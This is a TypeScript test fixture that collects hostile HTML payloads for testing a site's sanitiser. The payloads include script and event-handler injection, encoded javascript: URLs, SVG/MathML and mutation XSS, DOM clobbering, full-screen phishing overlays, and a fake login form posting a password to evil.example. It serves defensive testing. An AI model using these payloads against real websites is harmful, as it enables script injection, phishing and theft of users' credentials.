/**
 * Hostile CMS HTML for the sanitiser's tests: script injection, URL schemes, SVG/MathML, mutation
 * XSS, DOM clobbering and CSS overlays. A payload that runs script sets `window.__xss` (or the
 * parent's, from a frame) to its own name, so a test can tell which one got through. Used by
 * src/site/sanitize.browser.test.ts (all of it) and by the mock CMS's overlay article
 * (OVERLAY_PAYLOADS, see site-fixtures.ts), which tests/e2e/site-xss-overlay.spec.ts opens.
 */

export const XSS_FLAG = '__xss';

export interface Payload {
  name: string;
  html: string;
}

/** Sets the flag; `who` names the payload in the failure message. */
const hit = (who: string, scope = 'window') => `${scope}.${XSS_FLAG}='${who}'`;
/** Every character as a decimal character reference: what a filter matching "javascript" misses. */
const decimalEntities = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');

const script: Payload[] = [
  { name: 'script tag', html: `<script>${hit('script tag')}</script>` },
  { name: 'script tag, upper case, data: src', html: `<SCRIPT SRC="data:text/javascript,${hit('script src')}"></SCRIPT>` },
  { name: 'script split around a removed tag', html: `<scr<script>ipt>${hit('split')}</scr</script>ipt>` },
  { name: 'script with a junk attribute', html: `<script/xss>${hit('script junk')}</script>` },
  { name: 'script in a paragraph', html: `<p>正文<script type="module">${hit('module')}</script></p>` },
];

const handlers: Payload[] = [
  { name: 'img onerror', html: `<img src="x" onerror="${hit('img onerror')}">` },
  { name: 'IMG ONERROR upper case', html: `<IMG SRC=x ONERROR=${hit('IMG ONERROR')}>` },
  { name: 'img OnErRoR mixed case', html: `<img src=x OnErRoR="${hit('OnErRoR')}">` },
  { name: 'img onerror with spaces round =', html: `<img src="x" onerror  =  "${hit('spaced')}">` },
  { name: 'img with slashes for spaces', html: `<img/src=x/onerror=${hit('slashes')}>` },
  { name: 'img onload on a data: image', html: `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${hit('onload')}">` },
  { name: 'body onload', html: `<body onload="${hit('body onload')}"><p>x</p></body>` },
  { name: 'onmouseover on prose', html: `<p onmouseover="${hit('mouseover')}">悬停</p>` },
  { name: 'details ontoggle', html: `<details open ontoggle="${hit('ontoggle')}"><summary>s</summary>x</details>` },
  { name: 'video source onerror', html: `<video><source onerror="${hit('source onerror')}"></video>` },
  { name: 'audio onerror', html: `<audio src="x" onerror="${hit('audio')}"></audio>` },
  { name: 'input autofocus onfocus', html: `<input autofocus onfocus="${hit('onfocus')}">` },
  { name: 'marquee onstart', html: `<marquee onstart="${hit('marquee')}">x</marquee>` },
  { name: 'custom element with handler', html: `<x-card onclick="${hit('custom')}" tabindex="0">卡片</x-card>` },
];

const urls: Payload[] = [
  { name: 'javascript: link', html: `<a href="javascript:${hit('js link')}">链接</a>` },
  { name: 'JaVaScRiPt: mixed case', html: `<a href="JaVaScRiPt:${hit('mixed')}">链接</a>` },
  { name: 'javascript: as decimal entities', html: `<a href="${decimalEntities('javascript:')}${hit('decimal')}">链接</a>` },
  { name: 'javascript: as hex entity and &colon;', html: `<a href="&#x6A;avascript&colon;${hit('hex')}">链接</a>` },
  { name: 'javascript: zero-padded entity without semicolon', html: `<a href="javascript&#0000058${hit('padded')}">链接</a>` },
  { name: 'javascript: split by a tab', html: `<a href="java&#x09;script:${hit('tab')}">链接</a>` },
  { name: 'javascript: split by a newline', html: `<a href="java&#x0A;script:${hit('newline')}">链接</a>` },
  { name: 'javascript: split by a carriage return', html: `<a href="jav&#x0D;ascript:${hit('cr')}">链接</a>` },
  { name: 'javascript: after spaces and a control character', html: `<a href="  &#x01;&#x0E;javascript:${hit('control')}">链接</a>` },
  { name: 'javascript: with a raw newline', html: `<a href="javascript\n:${hit('raw newline')}">链接</a>` },
  { name: 'vbscript: link', html: `<a href="vbscript:msgbox(1)">链接</a>` },
  { name: 'data:text/html link, base64', html: `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==">链接</a>` },
  { name: 'data:text/html link', html: `<a href="data:text/html,<script>${hit('data link', 'opener')}</script>">链接</a>` },
  { name: 'javascript: image', html: `<img src="javascript:${hit('js img')}">` },
  { name: 'data:text/html image', html: `<img src="data:text/html,<script>${hit('data img')}</script>">` },
  { name: 'srcset with javascript: and a tracker', html: `<img src="x" srcset="javascript:${hit('srcset')} 1x, https://tracker.example/p.gif 2x" sizes="100vw">` },
  { name: 'picture source srcset', html: `<picture><source srcset="javascript:${hit('picture')}"><img src="x"></picture>` },
  { name: 'legacy image URL attributes', html: `<img src="x" dynsrc="javascript:${hit('dynsrc')}" lowsrc="javascript:${hit('lowsrc')}">` },
  { name: 'table background javascript:', html: `<table background="javascript:${hit('background')}"><tr><td background="javascript:1">x</td></tr></table>` },
  { name: 'link with ping and a named-frame target', html: `<a href="https://example.edu.cn" ping="https://tracker.example/ping" target="_top">外链</a>` },
  { name: 'polyglot', html: `<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${hit('polyglot')}//'>链接</a>` },
];

const svgMath: Payload[] = [
  { name: 'svg onload', html: `<svg onload="${hit('svg onload')}"></svg>` },
  { name: 'svg script', html: `<svg><script>${hit('svg script')}</script></svg>` },
  { name: 'svg a xlink:href javascript:', html: `<svg><a xlink:href="javascript:${hit('xlink')}"><text x="20" y="20">点我</text></a></svg>` },
  { name: 'svg animate onbegin', html: `<svg><animate onbegin="${hit('onbegin')}" attributeName="x" dur="1s"/></svg>` },
  { name: 'svg set href to javascript:', html: `<svg><a><set attributeName="href" to="javascript:${hit('set')}"/><text y="20">x</text></a></svg>` },
  { name: 'svg foreignObject img', html: `<svg><foreignObject><img src="x" onerror="${hit('foreignObject')}"></foreignObject></svg>` },
  { name: 'svg style overlay', html: `<svg><style>*{position:fixed!important;inset:0}</style></svg>` },
  { name: 'math mglyph style (mXSS)', html: `<math><mtext><table><mglyph><style><img src=x onerror="${hit('mglyph')}">` },
  { name: 'math href javascript:', html: `<math href="javascript:${hit('math href')}"><mi>x</mi></math>` },
  { name: 'math nested in form (mXSS)', html: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${hit('form math')}">` },
];

const mutation: Payload[] = [
  { name: 'noscript attribute breakout', html: `<noscript><p title="</noscript><img src=x onerror=${hit('noscript')}>"></noscript>` },
  { name: 'template content', html: `<template><img src="x" onerror="${hit('template')}"></template>` },
  { name: 'textarea content', html: `<textarea><img src="x" onerror="${hit('textarea')}"></textarea>` },
  { name: 'title content', html: `<title><img src="x" onerror="${hit('title')}"></title>` },
  { name: 'style content', html: `<style><img src="x" onerror="${hit('style')}"></style>` },
  { name: 'xmp content', html: `<xmp><img src="x" onerror="${hit('xmp')}"></xmp>` },
  { name: 'comment breakout', html: `<!--><img src="x" onerror="${hit('comment')}">-->` },
  { name: 'bogus comment end', html: `<p><!-- --!><img src="x" onerror="${hit('bogus comment')}">--></p>` },
  { name: 'select template style (mXSS)', html: `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${hit('select')}>">` },
  { name: 'CDATA in HTML', html: `<div><![CDATA[</div><img src="x" onerror="${hit('cdata')}">]]></div>` },
];

/** A fake sign-in over the site: what the tester found. */
const FAKE_SIGN_IN = '<a href="https://evil.example/login">登录已过期，请点此重新登录</a>';

export const OVERLAY_PAYLOADS: Payload[] = [
  { name: 'fixed full-screen overlay', html: `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">${FAKE_SIGN_IN}</div>` },
  {
    name: 'absolute overlay sized to the viewport',
    html: `<div style="position:absolute;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">${FAKE_SIGN_IN}</div>`,
  },
  { name: 'sticky bar', html: `<p style="position:sticky;top:0;z-index:60;background:red">置顶公告</p>` },
  { name: 'upper-case STYLE', html: `<div STYLE="POSITION:FIXED;TOP:0;LEFT:0;RIGHT:0;HEIGHT:120PX;Z-INDEX:9999">${FAKE_SIGN_IN}</div>` },
  { name: 'entity-encoded style', html: `<div style="position&#58;fixed&#59;inset&#58;0&#59;z-index&#58;99999">${FAKE_SIGN_IN}</div>` },
  { name: 'transform lifts content over the header', html: `<p style="transform:translateY(-600px) scale(3);z-index:99999">${FAKE_SIGN_IN}</p>` },
  { name: 'negative margin pulls content up', html: `<div style="margin-top:-2000px;position:relative;z-index:99999">${FAKE_SIGN_IN}</div>` },
  { name: 'positioned image', html: `<img src="x" alt="" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">` },
  { name: 'style sheet', html: `<style>header{display:none!important}p{position:fixed;inset:0;z-index:99999}</style><p>${FAKE_SIGN_IN}</p>` },
  { name: 'site utility classes', html: `<div class="fixed inset-0 z-50 bg-white">${FAKE_SIGN_IN}</div>` },
  { name: 'external style sheet', html: `<link rel="stylesheet" href="https://evil.example/overlay.css"><p>正文</p>` },
  { name: 'open dialog', html: `<dialog open style="position:fixed;inset:0">${FAKE_SIGN_IN}</dialog>` },
  { name: 'popover', html: `<div popover="manual" id="p">${FAKE_SIGN_IN}</div><button popovertarget="p">打开</button>` },
  { name: 'style with url(javascript:)', html: `<div style="background:url(javascript:${hit('css url')})">x</div>` },
];

const forms: Payload[] = [
  { name: 'fake sign-in form', html: `<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>登录</button></form>` },
  { name: 'button formaction', html: `<button formaction="javascript:${hit('formaction')}">提交</button>` },
  { name: 'image input formaction', html: `<input type="image" src="x" formaction="javascript:${hit('input image')}">` },
  { name: 'isindex', html: `<isindex type="image" src="x" action="javascript:${hit('isindex')}">` },
];

const documentLevel: Payload[] = [
  { name: 'base href', html: `<base href="https://evil.example/"><a href="/home">首页</a><img src="logo.png">` },
  { name: 'meta refresh to javascript:', html: `<meta http-equiv="refresh" content="0;url=javascript:${hit('meta js')}">` },
  { name: 'meta refresh elsewhere', html: `<meta http-equiv="refresh" content="0;url=https://evil.example/">` },
];

/** Names an id or name attribute would shadow on `document` or `window` (DOM clobbering). */
export const CLOBBERED_NAMES = ['cookie', 'location', 'getElementById', 'body', 'defaultView', 'xssClobber', 'alert'] as const;

const clobbering: Payload[] = [
  { name: 'img name=cookie', html: `<img name="cookie" src="x"><img name="body" src="x">` },
  { name: 'a id=location', html: `<a id="location" href="https://evil.example/">链接</a>` },
  { name: 'form name=getElementById', html: `<form name="getElementById"></form>` },
  { name: 'id=defaultView', html: `<div id="defaultView">x</div>` },
  { name: 'two anchors make an HTMLCollection', html: `<a id="xssClobber"></a><a id="xssClobber" name="url" href="javascript:${hit('collection')}">x</a>` },
  { name: 'id=alert on a table cell', html: `<table><tr><td id="alert">x</td></tr></table>` },
];

const embedded: Payload[] = [
  { name: 'iframe srcdoc', html: `<iframe srcdoc="<script>${hit('srcdoc', 'parent')}</script>"></iframe>` },
  { name: 'iframe javascript: src', html: `<iframe src="javascript:${hit('iframe js', 'parent')}"></iframe>` },
  { name: 'iframe data: src', html: `<iframe src="data:text/html,<script>${hit('iframe data', 'parent')}</script>"></iframe>` },
  { name: 'object data javascript:', html: `<object data="javascript:${hit('object', 'parent')}"></object>` },
  { name: 'object data: html', html: `<object type="text/html" data="data:text/html,<script>${hit('object data', 'parent')}</script>">后备文字</object>` },
  { name: 'embed javascript:', html: `<embed src="javascript:${hit('embed', 'parent')}">` },
  { name: 'frameset', html: `<frameset><frame src="javascript:${hit('frame', 'parent')}"></frameset>` },
  { name: 'svg image as data: img', html: `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${hit('svg img', 'parent')}'%3E%3C/svg%3E">` },
];

export const XSS_CORPUS: Payload[] = [...script, ...handlers, ...urls, ...svgMath, ...mutation, ...OVERLAY_PAYLOADS, ...forms, ...documentLevel, ...clobbering, ...embedded];
